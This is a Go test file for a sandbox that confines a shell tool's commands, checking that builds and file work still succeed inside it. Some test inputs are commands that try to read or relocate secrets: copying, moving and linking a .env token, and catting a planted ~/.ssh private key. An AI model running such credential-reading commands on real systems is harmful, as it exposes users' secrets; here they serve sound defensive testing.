func grantHolding(spec *fenceSpec, p string) string {
	for _, g := range append(slices.Clone(spec.Read), spec.Write...) {
		if insideAny(p, []string{g}) {
			return g
		}
	}
	return ""
}

// TestFenceWorksBesideKeys: in a workspace with a .env at its top, a
// fenced command still builds, lists, reads the files beside it and
// makes files; and it cannot get the key out under another name: a move,
// a hard or soft link or a copy, read by the next command.
func TestFenceWorksBesideKeys(t *testing.T) {
	cfg := sandboxHome(t)
	ws := cfg.workDir
	os.WriteFile(filepath.Join(ws, ".env"), []byte("TOKEN=SECRET-ENV\n"), 0o600)
	os.WriteFile(filepath.Join(ws, "go.mod"), []byte("module tiny\n\ngo 1.21\n"), 0o600)
	os.WriteFile(filepath.Join(ws, "main.go"), []byte("package main\n\nfunc main() { println(\"tiny\") }\n"), 0o600)
	os.MkdirAll(filepath.Join(ws, "sub"), 0o700)
	os.MkdirAll(filepath.Join(ws, "credentials"), 0o700) // a package named like a token file: judged by its files
	os.WriteFile(filepath.Join(ws, "credentials", "c.go"), []byte("package credentials\n"), 0o600)
	if out, err := exec.Command("git", "-C", ws, "init", "-q").CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	for _, w := range []struct{ cmd, want string }{
		// A file made beside a key file is read from the next command on.
		{"go build -o tiny . && echo built", "built"},
		{"./tiny 2>&1", "tiny"},
		{"go vet . && cat main.go credentials/c.go", "package main\n\nfunc main() { println(\"tiny\") }\npackage credentials"},
		{"ls -a", ".env"},
		{"git status --short", "?? go.mod"},
		{"git add go.mod main.go && git -c user.name=t -c user.email=t@example.com commit -qm first && git log --oneline | wc -l", "1"},
		{"echo made > new.txt && echo x > sub/f && cat sub/f && rm sub/f && echo ok", "x\nok"},
		{"cat new.txt", "made"}, // made by the command before, read by this one
	} {
		if got := runFenced(t, cfg, w.cmd, true); got.Code != 0 || !strings.Contains(got.Output, w.want) {
			t.Errorf("fenced %q = exit %d %q %s, want exit 0 and %q", w.cmd, got.Code, got.Output, got.Error, w.want)
		}
	}
	for _, steps := range [][2]string{
		{"mv .env moved", "cat moved"}, {"ln .env linked", "cat linked"}, {"mkdir -p d && ln .env d/l; mv .env d/m", "cat d/l d/m"},
		{"ln -s .env soft", "cat soft"}, {"cp .env copied", "cat copied"}, {"cat .env > sub/out", "cat sub/out"},
	} {
		runFenced(t, cfg, steps[0], true)
		if got := runFenced(t, cfg, steps[1], true); strings.Contains(got.Output, "SECRET-ENV") {
			t.Errorf("fenced %q then %q printed the key: %q", steps[0], steps[1], got.Output)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(ws, ".env")); !strings.Contains(string(b), "SECRET-ENV") {
		t.Errorf(".env is gone or changed after the attempts: %q", b)
	}
}

// TestFencedTempWhenHomeInTmp: with the home (and its keys) under the temp
// directory, as a temp HOME or a container's HOME=/tmp puts it, the fence
// carves /tmp child by child and nothing new could be made there: a fenced
// command then gets a temporary directory of its own as TMPDIR, so mktemp
// and go build work, and it is gone when the command ends. A fenced
// failure says it ran fenced.
func TestFencedTempWhenHomeInTmp(t *testing.T) {
	if landlockABI() < 1 {
		skipWithout(t, "Landlock", "no Landlock in this kernel")
	}
	cfg, _ := load(t, "", nil, nil)
	home, ws := t.TempDir(), t.TempDir() // both under os.TempDir()
	os.MkdirAll(filepath.Join(home, ".ssh"), 0o700)
	os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte("PRIVATE-KEY-BYTES\n"), 0o600)
	cfg.homeDir, cfg.workDir = home, ws
	cfg.environ = []string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "SHELL=/bin/sh", "TMPDIR=" + os.TempDir()}
	got := runFenced(t, cfg, `d=$(mktemp -d) && echo made > "$d/f" && cat "$d/f" && echo "tmp=$TMPDIR"; cat ~/.ssh/id_ed25519`, true)
	if !strings.Contains(got.Output, "made\n") || strings.Contains(got.Output, "PRIVATE-KEY-BYTES") {
		t.Fatalf("fenced with the home under the temp directory: %+v", got)
	}
	_, tmp, _ := strings.Cut(got.Output, "tmp=")
	tmp, _, _ = strings.Cut(tmp, "\n")
	if tmp == "" || !strings.HasPrefix(tmp, resolvePathOf(os.TempDir())) {
		t.Errorf("TMPDIR = %q, want a directory of the command's own under %s", tmp, os.TempDir())
	} else if _, err := os.Stat(tmp); err == nil {
		t.Errorf("the command's temporary directory %s outlived it", tmp)
	}
	if got.Code == 0 || !strings.Contains(got.Error, "ran fenced") {
		t.Errorf("a fenced failure (the key's cat) does not say it ran fenced: %+v", got)
	}
}

// benchShell runs `true` as the shell tool does, fenced (through the
// wrapper, its namespaces, the walk and the fence) or started directly:
// the two whole processes, timed from outside, give a fenced command's cost.
func benchShell(b *testing.B, fenced bool) {
	cache, _ := os.UserCacheDir()
	wd, _ := os.Getwd()
	self, _ := os.Executable()
	s := newSandbox(sandboxOptions{mode: "auto", homeDir: os.Getenv("HOME"), workDir: wd, cacheDir: cache, environ: os.Environ()}, self)
	for b.Loop() {
		var st *shellStart
		if fenced {
			st = s.start(context.Background())
		}
		cl := newClipper(0, nil)
		if err := runShell(context.Background(), "true", wd, time.Minute, os.Environ(), st, resultWriter{w: cl, c: cl}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkFencedTrue and BenchmarkDirectTrue: see benchShell.
func BenchmarkFencedTrue(b *testing.B) { benchShell(b, true) }
func BenchmarkDirectTrue(b *testing.B) { benchShell(b, false) }

// fileEmpty reports whether p is missing or empty (the command has not
// written it yet: its group number is the PID namespace's own, which the
// fresh /proc there shows, so it is a sign of progress, not a number to use).
func fileEmpty(p string) bool {
	st, err := os.Stat(p)
	return err != nil || st.Size() == 0
}
